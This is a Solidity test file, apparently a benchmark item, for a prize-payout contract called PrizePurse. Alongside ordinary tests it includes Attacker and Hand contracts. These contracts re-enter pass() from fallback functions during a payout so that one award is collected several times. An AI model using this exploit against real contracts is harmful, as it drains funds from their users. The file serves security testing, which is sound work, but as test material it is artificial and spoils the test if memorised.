pragma solidity 0.5.17;

import "./PrizePurse.sol";

// assay-canary-79fc1b07-a543-4d65-9847-c23c73fd2977

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Deaf {
    function run(PrizePurse purse) external {
        purse.collect();
    }
}

// Collects again while it is paid.
contract Twice {
    bytes32 public answer;

    function run(PrizePurse purse) external {
        purse.collect();
    }

    function() external payable {
        if (answer != 0) return;
        answer = keccak256("called");
        (, bytes memory reason) = msg.sender.call(abi.encodeWithSignature("collect()"));
        answer = keccak256(reason);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant HOST = address(0x4057);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    uint256 private constant START = 1600000000;

    PrizePurse private purse;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(HOST, 10 ether);
        vm.startPrank(HOST);
        purse = new PrizePurse(30);
        (bool ok, ) = address(purse).call.value(10 ether)("");
        require(ok, "funded");
        purse.award(ANA, 5 ether);
        mallory = new Attacker(purse);
        purse.award(address(mallory), 2 ether);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        purse.pass(BEN, 1 ether);
        purse.collect();
        vm.stopPrank();
        vm.prank(BEN);
        purse.collect();
        require(ANA.balance == 4 ether && BEN.balance == 1 ether && purse.awarded() == 2 ether, "collected");
        vm.warp(START + 30 days);
        vm.startPrank(HOST);
        purse.close();
        purse.transferOwnership(ANA);
        vm.stopPrank();
        require(HOST.balance == 5 ether, "returned");
        vm.prank(ANA);
        purse.renounceOwnership();
    }

    function test_Refuses() public {
        vm.expectRevert("no prize");
        purse.collect();
        vm.startPrank(ANA);
        vm.expectRevert("no account");
        purse.pass(address(0), 1);
        vm.expectRevert("too much");
        purse.pass(BEN, 6 ether);
        vm.expectRevert("Ownable: caller is not the owner");
        purse.award(ANA, 1);
        vm.stopPrank();
        vm.startPrank(HOST);
        vm.expectRevert("too much");
        purse.award(ANA, 4 ether);
        vm.expectRevert("open");
        purse.close();
        vm.warp(START + 30 days);
        vm.expectRevert("closed");
        purse.award(ANA, 1);
        vm.stopPrank();
        vm.expectRevert("Ownable: caller is not the owner");
        purse.close();
        vm.expectRevert("no time");
        new PrizePurse(0);
    }

    function test_RefusesDeafAccounts() public {
        Deaf deaf = new Deaf();
        vm.prank(ANA);
        purse.pass(address(deaf), 1 ether);
        vm.expectRevert("not paid");
        deaf.run(purse);
    }

    function test_RefusesReentry() public {
        Twice twice = new Twice();
        vm.prank(ANA);
        purse.pass(address(twice), 1 ether);
        twice.run(purse);
        bytes memory locked = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        require(twice.answer() == keccak256(locked), "not locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 6 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(purse);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Hand {
    PrizePurse private purse;
    address payable private home;
    address private next;

    constructor(PrizePurse p, address payable h, address n) public {
        purse = p;
        home = h;
        next = n;
    }

    function run() external {
        purse.collect();
        home.transfer(address(this).balance);
    }

    function() external payable {
        if (next != address(0)) purse.pass(next, msg.value);
    }
}

contract Attacker {
    PrizePurse private purse;
    Hand private second;
    Hand private third;

    constructor(PrizePurse p) public {
        purse = p;
    }

    function run() external {
        third = new Hand(purse, address(this), address(0));
        second = new Hand(purse, address(this), address(third));
        purse.collect();
        second.run();
        third.run();
    }

    function() external payable {
        if (msg.sender == address(purse)) purse.pass(address(second), msg.value);
    }
}
